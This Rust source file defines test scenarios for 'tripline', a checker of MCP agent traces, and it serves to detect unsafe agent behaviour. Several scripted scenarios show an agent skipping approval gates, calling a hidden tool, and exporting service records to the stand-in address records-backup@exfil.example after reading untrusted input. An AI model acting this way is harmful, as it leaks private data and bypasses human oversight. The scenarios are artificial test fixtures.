//! The sample scenarios: which seed system, which servers over which transport in which variant,
//! how the host behaves, the script of model turns / approvals / calls, and the rule codes
//! `tripline check` must report for the resulting trace file (the rule catalogue: `tripline rules`).
//!
//! One table is the single source of truth for the generator, `samples/expected.json` and the
//! README table, so they cannot drift apart (a test compares them).

use serde_json::{json, Value};

use crate::catalog::{ServerKind, ServerVariant};

/// The seed document a scenario comes from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Seed {
    /// seeds/000: CRM assistant.
    Crm,
    /// seeds/001: Atlas field service.
    Atlas,
    /// seeds/002: SWCraft.
    SwCraft,
    /// seeds/004: Tiny-Agent support assistant.
    TinyAgent,
}

impl Seed {
    pub fn title(self) -> &'static str {
        match self {
            Seed::Crm => "CRM assistant (seed 000)",
            Seed::Atlas => "Atlas field service (seed 001)",
            Seed::SwCraft => "SWCraft (seed 002)",
            Seed::TinyAgent => "Tiny-Agent support (seed 004)",
        }
    }
}

/// MCP transport between host and server process.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Transport {
    Stdio,
    Http,
}

impl Transport {
    pub fn name(self) -> &'static str {
        match self {
            Transport::Stdio => "stdio",
            Transport::Http => "http",
        }
    }

    /// semconv `network.transport`.
    pub fn network(self) -> &'static str {
        match self {
            Transport::Stdio => "pipe",
            Transport::Http => "tcp",
        }
    }
}

/// The MCP protocol revision a scenario is played on: both are first-class (DESIGN.md).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Revision {
    /// 2025-11-25: the `initialize` handshake (rmcp's legacy lifecycle), sessions over HTTP.
    #[default]
    Initialize,
    /// 2026-07-28: stateless, `server/discover` instead of `initialize`, per-request `_meta`, no
    /// session (rmcp's `ClientLifecycleMode::Discover`; rmcp 3.11 implements this revision).
    Stateless,
}

impl Revision {
    /// Both revisions, legacy first.
    pub const ALL: [Revision; 2] = [Revision::Initialize, Revision::Stateless];

    /// The `mcp.protocol.version` the client asks for.
    pub fn version(self) -> &'static str {
        match self {
            Revision::Initialize => "2025-11-25",
            Revision::Stateless => "2026-07-28",
        }
    }

    /// The committed traces' directory under `samples/`.
    pub fn dir(self) -> &'static str {
        match self {
            Revision::Initialize => "traces",
            Revision::Stateless => "traces-2026-07-28",
        }
    }

    /// Parses a `--revision` value.
    pub fn parse(s: &str) -> Option<Revision> {
        Revision::ALL.into_iter().find(|r| r.version() == s)
    }

    /// What seeds a scenario's ids, clock and conversation id: the name on the legacy revision
    /// (the committed files stay as they are), name@revision otherwise, so the two revisions'
    /// files never share a trace or span id and can be ingested into one store.
    pub fn key(self, scenario: &str) -> String {
        match self {
            Revision::Initialize => scenario.to_string(),
            Revision::Stateless => format!("{scenario}@{}", self.version()),
        }
    }
}

/// One server process a scenario connects to.
#[derive(Debug, Clone, Copy)]
pub struct ServerUse {
    pub kind: ServerKind,
    pub transport: Transport,
    pub variant: ServerVariant,
}

const fn server(kind: ServerKind, transport: Transport) -> ServerUse {
    ServerUse {
        kind,
        transport,
        variant: ServerVariant {
            dict_result: false,
            seed_annotations: false,
            catalog_v2: false,
            mask_errors: false,
        },
    }
}

/// How the agent host behaves and what it records.
#[derive(Debug, Clone, Copy)]
pub struct HostOptions {
    /// Inject W3C trace context into `params._meta` (off: the broken-propagation variant).
    pub propagate: bool,
    /// Record opt-in `gen_ai.tool.call.arguments`.
    pub capture_arguments: bool,
    /// Record opt-in `gen_ai.tool.call.result` (the CallToolResult JSON).
    pub capture_results: bool,
    /// Emit deprecated `gen_ai.system` instead of `gen_ai.provider.name`.
    pub deprecated_system: bool,
    /// Mark `execute_tool` spans of `isError` results with `error.type=tool_error` + ERROR.
    pub flag_tool_errors: bool,
    /// Bridge tools under `<namespace>__<tool>` (seed 004).
    pub namespace: Option<&'static str>,
    /// The tools the model is shown (model-facing names); `None`: every discovered tool.
    pub visible: Option<&'static [&'static str]>,
    /// `skill.name` of the agent run (the task / decision scope).
    pub skill: Option<&'static str>,
}

pub const HOST: HostOptions = HostOptions {
    propagate: true,
    capture_arguments: true,
    capture_results: true,
    deprecated_system: false,
    flag_tool_errors: true,
    namespace: None,
    visible: None,
    skill: None,
};

/// One step of a scenario's script.
#[derive(Debug, Clone)]
pub enum Step {
    /// A model call (`chat` span) that sees the visible tool definitions.
    Chat,
    /// The host's approval gate: `guardrail` decision `require_approval`, the user approves, then
    /// `allow`, for the next call of `tool`.
    Approve {
        tool: &'static str,
        skill: &'static str,
    },
    /// The model calls a tool (model-facing name); the host executes it over MCP.
    Call { tool: &'static str, args: Value },
    /// The host reads an MCP resource (`resources/read`).
    ReadResource { uri: &'static str },
    /// The host fetches an MCP prompt (`prompts/get`).
    GetPrompt { name: &'static str, args: Value },
}

fn call(tool: &'static str, args: Value) -> Step {
    Step::Call { tool, args }
}

/// A sample: the trace file `samples/traces/<name>.json` and what it must show.
#[derive(Debug, Clone)]
pub struct Scenario {
    pub name: &'static str,
    pub seed: Seed,
    /// Agent name (`gen_ai.agent.name`).
    pub agent: &'static str,
    /// What is broken, for the README ("nothing" for negative controls).
    pub broken: &'static str,
    /// Rule codes `tripline check --policy samples/policy.toml` must report, sorted.
    pub expected: &'static [&'static str],
    pub servers: Vec<ServerUse>,
    pub host: HostOptions,
    pub steps: Vec<Step>,
}

impl Scenario {
    /// Path of the committed trace file, from the repository root.
    pub fn file(&self) -> String {
        self.file_at(Revision::Initialize)
    }

    /// The committed trace file of this scenario played on `revision`.
    pub fn file_at(&self, revision: Revision) -> String {
        format!("samples/{}/{}.json", revision.dir(), self.name)
    }
}

const SUPPORT_ALLOWLIST: &[&str] = &[
    "support__get_order_summary",
    "support__get_shipment_status",
    "support__get_invoice_summary",
];

const SW_SCOPE: &[&str] = &["add_interface", "list_interfaces", "validate_model"];

fn crm(name: &'static str, broken: &'static str, expected: &'static [&'static str]) -> Scenario {
    Scenario {
        name,
        seed: Seed::Crm,
        agent: "crm-assistant",
        broken,
        expected,
        servers: vec![server(ServerKind::Crm, Transport::Stdio)],
        // Arguments hold an e-mail address: not captured, so no personal data lands in spans.
        host: HostOptions {
            capture_arguments: false,
            ..HOST
        },
        steps: vec![
            Step::Chat,
            call(
                "find_contact_by_email",
                json!({"email": "dana.lee@example.com"}),
            ),
            Step::Chat,
            Step::Approve {
                tool: "add_timeline_note",
                skill: "crm-timeline-notes",
            },
            call(
                "add_timeline_note",
                json!({"contact_id": "C-1001", "note": "Called about the VAT rate on invoice 4471."}),
            ),
            Step::Chat,
        ],
    }
}

fn atlas(name: &'static str, broken: &'static str, expected: &'static [&'static str]) -> Scenario {
    Scenario {
        name,
        seed: Seed::Atlas,
        agent: "atlas-field-service",
        broken,
        expected,
        servers: vec![
            server(ServerKind::AtlasTickets, Transport::Http),
            server(ServerKind::AtlasParts, Transport::Stdio),
        ],
        host: HOST,
        steps: Vec::new(),
    }
}

fn support(
    name: &'static str,
    broken: &'static str,
    expected: &'static [&'static str],
) -> Scenario {
    Scenario {
        name,
        seed: Seed::TinyAgent,
        agent: "support-assistant",
        broken,
        expected,
        servers: vec![server(ServerKind::AcmeSupport, Transport::Http)],
        host: HostOptions {
            namespace: Some("support"),
            visible: Some(SUPPORT_ALLOWLIST),
            ..HOST
        },
        steps: Vec::new(),
    }
}

fn swcraft(
    name: &'static str,
    broken: &'static str,
    expected: &'static [&'static str],
    v2: bool,
) -> Scenario {
    let mut srv = server(ServerKind::SwCraft, Transport::Stdio);
    srv.variant.catalog_v2 = v2;
    Scenario {
        name,
        seed: Seed::SwCraft,
        agent: "swcraft-modeller",
        broken,
        expected,
        servers: vec![srv],
        host: HostOptions {
            skill: Some("CreateSenderReceiverInterface"),
            ..HOST
        },
        steps: vec![
            Step::Chat,
            call("list_interfaces", json!({})),
            Step::Chat,
            Step::Approve {
                tool: "add_interface",
                skill: "CreateSenderReceiverInterface",
            },
            call(
                "add_interface",
                json!({"name": "IDiagnostics", "element_name": "DtcStatus", "element_type": "uint8"}),
            ),
            Step::Chat,
            call("validate_model", json!({})),
            Step::Chat,
        ],
    }
}

fn atlas_read_steps() -> Vec<Step> {
    vec![
        Step::Chat,
        call(
            "search_tickets",
            json!({"model_variant": "AC-250-S", "symptom": "compressor overheats"}),
        ),
        Step::Chat,
        call("get_ticket", json!({"ticket_id": "SR-20031"})),
    ]
}

/// Every sample, in file order.
pub fn all() -> Vec<Scenario> {
    let mut v = Vec::new();

    // --- CRM assistant (seed 000) ---
    v.push(crm(
        "crm-healthy",
        "nothing: the confirmation constraint fires before `add_timeline_note`, `find_contact_by_email` returns `structuredContent` (negative control)",
        &[],
    ));
    let mut s = crm(
        "crm-unconfirmed-write",
        "after the transport swap the confirmation constraint silently does not fire: `add_timeline_note` (requires_approval) runs with no approval",
        &["TL002"],
    );
    s.steps.retain(|st| !matches!(st, Step::Approve { .. }));
    v.push(s);
    let mut s = crm(
        "crm-dict-result",
        "`find_contact_by_email` is declared `-> dict`: no `outputSchema`, the object arrives as a JSON text block and `structuredContent` is absent",
        &["TL001"],
    );
    s.servers[0].variant.dict_result = true;
    v.push(s);
    let mut s = crm(
        "crm-deprecated-attribute",
        "the host's GenAI spans carry deprecated `gen_ai.system` and no `gen_ai.provider.name`",
        &["TL007"],
    );
    s.host.deprecated_system = true;
    v.push(s);

    // --- Atlas field service (seed 001) ---
    let mut s = atlas(
        "atlas-healthy",
        "nothing: three servers (tickets over Streamable HTTP, parts and manuals over stdio), annotations agree with the registry, `raise_parts_order` approved first (negative control)",
        &[],
    );
    s.servers
        .push(server(ServerKind::AtlasManuals, Transport::Stdio));
    s.steps = atlas_read_steps();
    s.steps.extend([
        Step::Chat,
        call(
            "search_manual",
            json!({"product_family": "AC-250", "query": "replace thermostatic expansion valve"}),
        ),
        Step::Chat,
        call(
            "find_part",
            json!({"model_variant": "AC-250-S", "component": "thermostatic-valve"}),
        ),
        Step::Chat,
        call("check_availability", json!({"part_no": "AC-250-S-TXV"})),
        Step::Chat,
        Step::Approve {
            tool: "raise_parts_order",
            skill: "field-service-parts-ordering",
        },
        call(
            "raise_parts_order",
            json!({"part_no": "AC-250-S-TXV", "quantity": 1, "ticket_id": "SR-20031"}),
        ),
        Step::Chat,
    ]);
    v.push(s);
    let mut s = atlas(
        "atlas-unapproved-order",
        "the approval gate is skipped: `raise_parts_order` (requires_approval) commits spend with no approval",
        &["TL002"],
    );
    s.steps = vec![
        Step::Chat,
        call(
            "find_part",
            json!({"model_variant": "AC-250-S", "component": "thermostatic-valve"}),
        ),
        Step::Chat,
        call(
            "raise_parts_order",
            json!({"part_no": "AC-250-S-TXV", "quantity": 2, "ticket_id": "SR-20031"}),
        ),
        Step::Chat,
    ];
    v.push(s);
    let mut s = atlas(
        "atlas-prohibited-export",
        "`export_service_records` (prohibited in the host registry) is executed",
        &["TL003"],
    );
    // The recipient is an address: arguments are not captured.
    s.host.capture_arguments = false;
    s.steps = vec![
        Step::Chat,
        call(
            "search_tickets",
            json!({"model_variant": "AC-250-S", "symptom": "compressor overheats"}),
        ),
        Step::Chat,
        call(
            "export_service_records",
            json!({"recipient": "records-backup@exfil.example", "model_variant": "AC-250-S"}),
        ),
        Step::Chat,
    ];
    v.push(s);
    let mut s = atlas(
        "atlas-annotation-mismatch",
        "the parts server publishes the seed's annotations: `raise_parts_order` is unannotated (pessimistic defaults: prohibited) while the host registry says requires_approval",
        &["TL006"],
    );
    s.servers[1].variant.seed_annotations = true;
    s.servers[0].variant.seed_annotations = true;
    s.steps = vec![
        Step::Chat,
        call(
            "search_tickets",
            json!({"model_variant": "AC-250-S", "symptom": "compressor overheats"}),
        ),
        Step::Chat,
        call("check_availability", json!({"part_no": "AC-250-S-TXV"})),
        Step::Chat,
    ];
    v.push(s);
    let mut s = atlas(
        "atlas-lethal-trifecta",
        "one conversation reads private data (`get_ticket`), then untrusted customer-submitted text (`search_tickets`, tagged untrusted), then exports records to an external recipient (`export_service_records`, prohibited)",
        &["TL003", "TL010"],
    );
    s.host.capture_arguments = false;
    s.steps = vec![
        Step::Chat,
        call("get_ticket", json!({"ticket_id": "SR-20031"})),
        Step::Chat,
        call(
            "search_tickets",
            json!({"model_variant": "AC-250-S", "symptom": "compressor overheats"}),
        ),
        Step::Chat,
        call(
            "export_service_records",
            json!({"recipient": "records-backup@exfil.example", "model_variant": "AC-250-S", "include_site_contacts": true}),
        ),
        Step::Chat,
    ];
    v.push(s);
    let mut s = atlas(
        "atlas-tool-error-retried",
        "`get_ticket(SR-99999)` returns `isError: true` (unknown ticket) and the model issues the identical call again",
        &["TL008"],
    );
    s.steps = vec![
        Step::Chat,
        call("get_ticket", json!({"ticket_id": "SR-99999"})),
        Step::Chat,
        call("get_ticket", json!({"ticket_id": "SR-99999"})),
        Step::Chat,
    ];
    v.push(s);
    let mut s = atlas(
        "atlas-broken-propagation",
        "the host does not inject `traceparent` into `params._meta`: every MCP server span starts its own trace",
        &["TL004"],
    );
    s.host.propagate = false;
    s.steps = atlas_read_steps();
    s.steps.extend([
        Step::Chat,
        call("check_availability", json!({"part_no": "AC-250-S-TXV"})),
        Step::Chat,
    ]);
    v.push(s);

    // --- Tiny-Agent support (seed 004) ---
    let mut s = support(
        "support-healthy",
        "nothing: only the allowlisted `support__*` bridges are shown and called; a mistyped order id returns `isError` (marked as an error) and the model corrects the argument (negative control)",
        &[],
    );
    s.steps = vec![
        Step::GetPrompt {
            name: "prepare_case_summary",
            args: json!({"order_id": "ACME-1007", "audience": "customer"}),
        },
        Step::Chat,
        call(
            "support__get_order_summary",
            json!({"order_id": "ACME-1070"}),
        ),
        Step::Chat,
        call(
            "support__get_order_summary",
            json!({"order_id": "ACME-1007"}),
        ),
        Step::Chat,
        call(
            "support__get_shipment_status",
            json!({"order_id": "ACME-1007"}),
        ),
        Step::Chat,
        call(
            "support__get_invoice_summary",
            json!({"order_id": "ACME-1007"}),
        ),
        Step::ReadResource {
            uri: "acme-support://guide/refund-evidence",
        },
        Step::Chat,
    ];
    v.push(s);
    let mut s = support(
        "support-hidden-tool",
        "the model calls `support__create_support_case`, which the host discovered but never showed (not in the allowlist); the bridge executes it, unapproved",
        &["TL002", "TL005"],
    );
    s.steps = vec![
        Step::Chat,
        call(
            "support__get_order_summary",
            json!({"order_id": "ACME-1007"}),
        ),
        Step::Chat,
        call(
            "support__create_support_case",
            json!({"order_id": "ACME-1007", "reason": "refund request"}),
        ),
        Step::Chat,
    ];
    v.push(s);
    let mut s = support(
        "support-masked-error",
        "`get_order_summary(ACME-9999)` returns `isError: true` but neither the server span nor the host span records `error.type` or status ERROR",
        &["TL009"],
    );
    s.servers[0].variant.mask_errors = true;
    s.host.flag_tool_errors = false;
    s.steps = vec![
        Step::Chat,
        call(
            "support__get_order_summary",
            json!({"order_id": "ACME-9999"}),
        ),
        Step::Chat,
    ];
    v.push(s);

    // --- SWCraft (seed 002) ---
    v.push(swcraft(
        "swcraft-baseline",
        "nothing: catalog v1, only `add_interface` can create an interface (baseline run, negative control)",
        &[],
        false,
    ));
    v.push(swcraft(
        "swcraft-candidate",
        "catalog v2 added `add_cs_interface` beside `add_interface`: the model call sees both near-duplicates in one decision scope (candidate run)",
        &["TL012"],
        true,
    ));
    let mut s = swcraft(
        "swcraft-scoped",
        "nothing: catalog v2, but the host shows the task-scoped projection of `CreateSenderReceiverInterface` only (negative control)",
        &[],
        true,
    );
    s.host.visible = Some(SW_SCOPE);
    v.push(s);
    v
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn samples_cover_the_required_rules_with_four_healthy() {
        let all = all();
        let codes: BTreeSet<&str> = all
            .iter()
            .flat_map(|s| s.expected.iter().copied())
            .collect();
        let want: BTreeSet<&str> = [
            "TL001", "TL002", "TL003", "TL004", "TL005", "TL006", "TL007", "TL008", "TL009",
            "TL010", "TL012",
        ]
        .into_iter()
        .collect();
        assert_eq!(codes, want);
        assert!(all.iter().filter(|s| s.expected.is_empty()).count() >= 4);
        let names: BTreeSet<&str> = all.iter().map(|s| s.name).collect();
        assert_eq!(names.len(), all.len(), "scenario names are unique");
        for s in &all {
            let mut sorted = s.expected.to_vec();
            sorted.sort_unstable();
            assert_eq!(sorted, s.expected, "{} expected codes are sorted", s.name);
        }
    }

    #[test]
    fn http_is_used_by_at_least_one_scenario() {
        assert!(all()
            .iter()
            .any(|s| s.servers.iter().any(|u| u.transport == Transport::Http)));
    }
}
